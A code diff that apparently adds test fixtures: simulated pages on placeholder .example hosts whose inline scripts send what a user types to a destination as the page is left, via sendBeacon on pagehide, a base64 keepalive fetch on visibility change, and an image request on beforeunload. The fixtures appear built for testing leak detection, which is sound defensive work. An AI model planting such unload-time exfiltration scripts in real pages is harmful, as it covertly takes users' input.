@@ -6,7 +6,7 @@ const page = (lang: string, script: string): Site["https"] => {
   return (_, response) => reply(response, { type: "text/html; charset=utf-8", body });
 };
 
-/** Pages that send what is typed in a body which is no text: a blob by beacon, by fetch and by XHR, and a form's parts. */
+/** Pages that send what is typed in a body which is no text: a blob by beacon, by fetch and by XHR, and a form's parts; and such as send it as they are left. */
 export const packedBodies: readonly Site[] = [
   {
     hosts: ["beacon.example"],
@@ -29,6 +29,24 @@ export const packedBodies: readonly Site[] = [
   {
     hosts: ["parts.example"],
     https: page("el", 'const f=new FormData();f.append("d",new Blob([e.value]));navigator.sendBeacon(to,f)'),
+  },
+  {
+    hosts: ["leaving.example"],
+    https: page(
+      "fr",
+      'addEventListener("pagehide",()=>navigator.sendBeacon(to,JSON.stringify({v:e.value})))',
+    ),
+  },
+  {
+    hosts: ["hiding.example"],
+    https: page(
+      "pl",
+      'document.onvisibilitychange=()=>{if(document.hidden&&document.visibilityState==="hidden")fetch(to,{method:"POST",mode:"no-cors",keepalive:true,body:btoa(e.value)})}',
+    ),
+  },
+  {
+    hosts: ["unloading.example"],
+    https: page("nl", 'onbeforeunload=()=>{new Image().src=to+"?v="+e.value}'),
   },
   {
     hosts: ["taker.example"],
